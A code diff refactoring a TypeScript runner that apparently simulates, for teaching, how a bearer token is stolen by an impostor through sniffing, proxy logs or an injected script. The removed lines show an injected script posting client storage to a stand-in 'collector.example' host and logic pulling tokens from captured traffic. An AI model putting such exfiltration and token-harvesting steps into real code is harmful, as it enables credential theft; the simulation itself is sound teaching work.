@@ -1,5 +1,5 @@
 import { createActor } from 'xstate';
-import { findBearerToken, injectedScript, type ClientStorage } from './client/theft.ts';
+import type { ClientStorage } from './client/theft.ts';
 import {
   askForList,
   askForToken,
@@ -10,22 +10,14 @@ import {
   type Prepared,
 } from './client/requests.ts';
 import type { Env } from './env.ts';
+import type { Impostor } from './impostor.ts';
 import { clientMachine, type ClientEffect, type ClientEvent } from './machines/client.ts';
-import { impostorMachine } from './machines/impostor.ts';
 import { Witness } from './machines/observe.ts';
-import type { TokenServer } from './server/app.ts';
-import type { Fact, Instruction, NewEntry, Recorder, RequestEntry, StoreName } from './trace.ts';
+import type { Asks, Note, Others, Run, Sendable, Sender } from './run.ts';
+import type { Fact, Instruction, Recorder, StoreName } from './trace.ts';
 import { CookieJar } from './wire/cookie-jar.ts';
-import { decodedBasic } from './wire/text.ts';
-import { createWire, type Received, type Wire } from './wire/wire.ts';
-
-type Asks = Extract<
-  Instruction,
-  { say: string; do: 'ask' | 'identify' | 'log-in' | 'log-out' | 'give-back' }
->;
-type Sender = 'client' | 'impostor';
-const HOST = 'helicopters.example';
-const COLLECTOR = 'collector.example';
+import { unsent } from './wire/unsent.ts';
+import { createWire, HOSTS, type Received, type Wire } from './wire/wire.ts';
 
 const EVENT_OF: Record<
   Asks['do'],
@@ -38,31 +30,34 @@ const EVENT_OF: Record<
   'give-back': 'GIVE_BACK',
 };
 
+/** True where an instruction brings the impostor in, or what it may read. */
+const tempts = (input: Instruction): boolean =>
+  input.do === 'steal' ||
+  input.do === 'inject-script' ||
+  ('who' in input && input.who === 'impostor') ||
+  (input.do === 'ask' && input.over !== undefined && input.over !== 'https');
+
 /** Runs instructions: drives the machines, fills their placeholders, and has all of it recorded. */
-export class Runner {
+export class Runner implements Run {
+  readonly wire: Wire;
+  readonly storage: ClientStorage = new Map();
   private readonly client;
-  private readonly impostor;
-  private readonly wire: Wire;
-  private readonly storage: ClientStorage = new Map();
+  private impostor: Impostor | null = null;
   private readonly jar: CookieJar;
-  private born = { client: false, impostor: false };
+  private born = false;
   private sent = 0;
   private current = 'r1';
-  private captured = '';
-  private proxyLog = '';
-  private collected = '';
 
   constructor(
     private readonly env: Env,
     private readonly trace: Recorder,
-    server: Promise<TokenServer>,
-    private way: string | null,
+    private readonly others: Promise<Others>,
+    private within: string | null,
   ) {
-    // Whoever asks first is told that it failed; with no one asking there is nothing to tell.
-    server.catch(() => undefined);
+    // Whoever needs them first is told that they failed to come; with no need there is nothing to tell.
+    others.catch(() => undefined);
     const message = (): string => this.current;
     this.client = new Witness('client', createActor(clientMachine), message, trace);
-    this.impostor = new Witness('impostor', createActor(impostorMachine), message, trace);
     this.jar = new CookieJar((name, row) => {
       this.note({ kind: 'store', actor: 'client', store: 'cookie-jar', key: name, row });
       if (row) this.knows('client', 'session', String(row['value']), 'set');
@@ -71,23 +66,11 @@ export class Runner {
       env,
       trace,
       hosts: {
-        [HOST]: async (request, carried) => (await server).fetch(request, carried),
-        [COLLECTOR]: async (request) => {
-          this.collected = await request.text();
-          this.knows('impostor', 'token', this.collected, 'script');
-          return new Response(null, { status: 204 });
-        },
+        [HOSTS.api]: async (request, carried) => (await others).server.fetch(request, carried),
+        [HOSTS.impostor]: async (request) => (await this.tempted()).collect(request),
       },
-      eavesdropper: (text) => {
-        this.captured = text;
-        this.keeps('impostor', 'capture', { text });
-      },
-      proxy: (text) => {
-        this.proxyLog = text;
-        this.keeps('proxy', 'proxy-log', { text });
-        const token = findBearerToken(text);
-        if (token !== null) this.knows('proxy', 'token', token, 'logged');
-      },
+      eavesdropper: (text) => this.impostor?.overhear(text),
+      proxy: (text) => this.impostor?.readLog(text),
     });
   }
 
@@ -96,21 +79,27 @@ export class Runner {
     return this.current;
   }
 
+  /** How the token is stolen. */
+  get way(): string | null {
+    return this.within;
+  }
   /** From here on the token is stolen in this way. */
   use(way: string | null): void {
-    this.way = way;
+    this.within = way;
   }
 
   /** Does as told, and returns when all that follows from it has happened. */
   async perform(input: Instruction): Promise<void> {
     if (input.do !== 'narrate') this.upcoming(input);
     this.note({ kind: 'input', actor: 'who' in input ? input.who : 'narrator', input });
+    if (tempts(input)) await this.tempted();
     switch (input.do) {
       case 'begin':
-        this.begin(input.who);
+        if (input.who === 'client') this.begin();
+        else this.impostor?.begin();
         return;
       case 'ask':
-        await (input.who === 'client' ? this.clientSends(input) : this.impostorAsks(input));
+        await (input.who === 'client' ? this.clientSends(input) : this.impostor?.ask(input));
         return;
       case 'identify':
       case 'log-in':
@@ -119,10 +108,10 @@ export class Runner {
         await this.clientSends(input);
         return;
       case 'inject-script':
-        await this.injectScript();
+        await this.impostor?.injectScript();
         return;
       case 'steal':
-        this.steal();
+        this.impostor?.steal();
         return;
       case 'wait':
         this.env.advance(input.seconds * 1000);
@@ -146,17 +135,26 @@ export class Runner {
     if (asks) this.sent++;
   }
 
-  private begin(who: Sender): void {
-    const actor = who === 'client' ? this.client : this.impostor;
-    if (this.born[who]) actor.send({ type: 'BEGIN' });
+  /** Brings the impostor in. */
+  private async tempted(): Promise<Impostor> {
+    const others = await this.others;
+    return (this.impostor ??= others.impostor(this, this.trace));
+  }
+
+  private get token(): string | null {
+    return this.client.actor.getSnapshot().context.token;
+  }
+
+  private begin(): void {
+    if (this.born) this.client.send({ type: 'BEGIN' });
     else {
-      this.born = { ...this.born, [who]: true };
-      actor.start();
+      this.born = true;
+      this.client.start();
     }
   }
 
   private async clientSends(input: Asks): Promise<void> {
-    if (!this.born.client) this.begin('client');
+    if (!this.born) this.begin();
     this.client.send({ type: EVENT_OF[input.do] });
     if (input.do === 'identify' || input.do === 'log-in') {
       if (input.password !== '') {
@@ -181,19 +179,9 @@ export class Runner {
     this.client.send({ type: 'ANSWERED', answer: { status: received.status, token } });
   }
 
-  private async impostorAsks(input: Extract<Instruction, { do: 'ask' }>): Promise<void> {
-    if (!this.born.impostor) this.begin('impostor');
-    const { token } = this.impostor.actor.getSnapshot().context;
-    this.impostor.send({ type: 'ASK' });
-    const prepared = askForList(input.show === 'token' ? (input.text ?? token) : null);
-    if ('unsendable' in prepared) return;
-    const { status } = await this.sends('impostor', prepared, input);
-    this.impostor.send({ type: 'ANSWERED', answer: { status } });
-  }
-
   /** The request that a placeholder of the client's machine stands for. */
   private prepare(effect: ClientEffect, input: Asks): Prepared {
-    const { token } = this.client.actor.getSnapshot().context;
+    const { token } = this;
     const who = input.do === 'identify' || input.do === 'log-in' ? input : null;
     switch (effect) {
       case 'askForList':
@@ -211,11 +199,7 @@ export class Runner {
     }
   }
 
-  private async sends(
-    from: Sender,
-    prepared: Exclude<Prepared, { unsendable: string }>,
-    input: Asks,
-  ): Promise<Received> {
+  async sends(from: Sender, prepared: Sendable, input: Asks): Promise<Received> {
     const over = (input.do === 'ask' ? input.over : undefined) ?? 'https';
     const received = await this.wire.send({
       from,
@@ -225,7 +209,7 @@ export class Runner {
       method: prepared.method,
       headers: prepared.headers,
       body: prepared.body,
-      url: `${over === 'http' ? 'http' : 'https'}://${HOST}${prepared.path}`,
+      url: `${over === 'http' ? 'http' : 'https'}://${HOSTS.api}${prepared.path}`,
       ...(from === 'client' && { jar: this.jar }),
       sent: (request) => {
         const params = this.said(from, input);
@@ -245,7 +229,7 @@ export class Runner {
   }
 
   private said(from: Sender, input: Asks): Record<string, string> {
-    const { token } = (from === 'client' ? this.client : this.impostor).actor.getSnapshot().context;
+    const token = from === 'client' ? this.token : this.impostor?.token;
     if (input.do === 'identify' || input.do === 'log-in')
       return { name: input.name, username: input.username, password: input.password };
     if (input.do === 'ask')
@@ -253,40 +237,10 @@ export class Runner {
     return input.do === 'give-back' ? { token: token ?? '' } : {};
   }
 
-  private async injectScript(): Promise<void> {
-    this.note({ kind: 'script', actor: 'client', code: 'injected' });
-    const body = injectedScript(this.storage);
-    if (body === null) return;
-    await this.wire.send({
-      from: 'client',
-      to: 'impostor',
-      message: this.current,
-      method: 'POST',
-      url: `https://${COLLECTOR}/`,
-      headers: [['Content-Type', 'text/plain']],
-      body,
-      over: 'https',
-    });
-  }
-
-  private steal(): void {
-    if (!this.born.impostor) this.begin('impostor');
-    const texts: Record<string, string> = { sniffed: this.captured, logged: this.proxyLog };
-    const found =
-      this.way === 'script' ? this.collected : findBearerToken(texts[this.way ?? ''] ?? '');
-    const token = found === '' ? null : found;
-    this.impostor.send({
-      type: 'LOOKED',
-      token,
-      reason: token === null ? 'nothing' : (this.way ?? 'nothing'),
-    });
-    if (token !== null && this.way !== null) this.knows('impostor', 'token', token, this.way);
-  }
-
-  private note(entry: DistributiveOmit<NewEntry, 'message'>): void {
+  note(entry: Note): void {
     this.trace.record({ message: this.current, ...entry });
   }
-  private knows(
+  knows(
     party: 'user' | 'client' | 'impostor' | 'proxy',
     secret: 'password' | 'token' | 'session',
     value: string,
@@ -294,7 +248,7 @@ export class Runner {
   ): void {
     this.note({ kind: 'known', actor: party, party, secret, value, how });
   }
-  private keeps(
+  keeps(
     actor: 'client' | 'impostor' | 'proxy',
     store: StoreName,
     row: Readonly<Record<string, Fact>>,
@@ -303,7 +257,6 @@ export class Runner {
     this.note({ kind: 'store', actor, store, key, row });
   }
 }
-type DistributiveOmit<T, K extends PropertyKey> = T extends unknown ? Omit<T, K> : never;
 
 /** The placeholder named by the state that a client's machine is in. */
 function effectOf(snapshot: {
@@ -311,25 +264,4 @@ function effectOf(snapshot: {
 }): ClientEffect | null {
   const [meta] = Object.values(snapshot.getMeta());
   return meta?.effect ?? null;
-}
-
-/** Which of the things said stand nowhere in the request, not even encoded. */
-function unsent(
-  params: Readonly<Record<string, string>>,
-  request: Omit<RequestEntry, 'n' | 'at'>,
-): string[] {
-  const names = Object.keys(params);
-  if (names.length === 0) return names;
-  // Most of what is said stands there in plain.
-  const plain = [request.body ?? '', ...request.headers.map(([, value]) => value)];
-  const hidden = names.filter((name) => !plain.some((one) => one.includes(params[name] ?? '')));
-  if (hidden.length === 0) return hidden;
-  const sent = [decodedBasic(request.headers) ?? '', ...bodyValues(request.body ?? '')];
-  return hidden.filter((name) => !sent.some((one) => one.includes(params[name] ?? '')));
-}
-
-/** The values in a body, JSON or form, as they were before they were encoded. */
-function bodyValues(body: string): string[] {
-  if (!body.startsWith('{')) return [...new URLSearchParams(body).values()];
-  return Object.values(JSON.parse(body) as Record<string, unknown>).map(String);
 }
